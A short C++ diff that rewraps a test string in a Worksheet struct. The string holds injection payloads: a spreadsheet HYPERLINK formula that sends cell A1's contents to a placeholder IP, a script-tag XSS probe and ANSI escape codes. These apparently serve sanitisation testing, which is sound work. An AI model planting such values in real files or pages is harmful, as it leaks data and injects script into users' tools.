@@ -8,7 +8,8 @@ namespace nbody {
 struct Worksheet {
   double n;
   std::string authors =
-      "=HYPERLINK(\"http://192.0.2.1/\"&A1), <script>alert('attack_proof')</script>, \033[31mRed\007";
+      "=HYPERLINK(\"http://192.0.2.1/\"&A1), <script>alert('attack_proof')</script>, "
+      "\033[31mRed\007";
   double forces_percent = 80;
 };
 
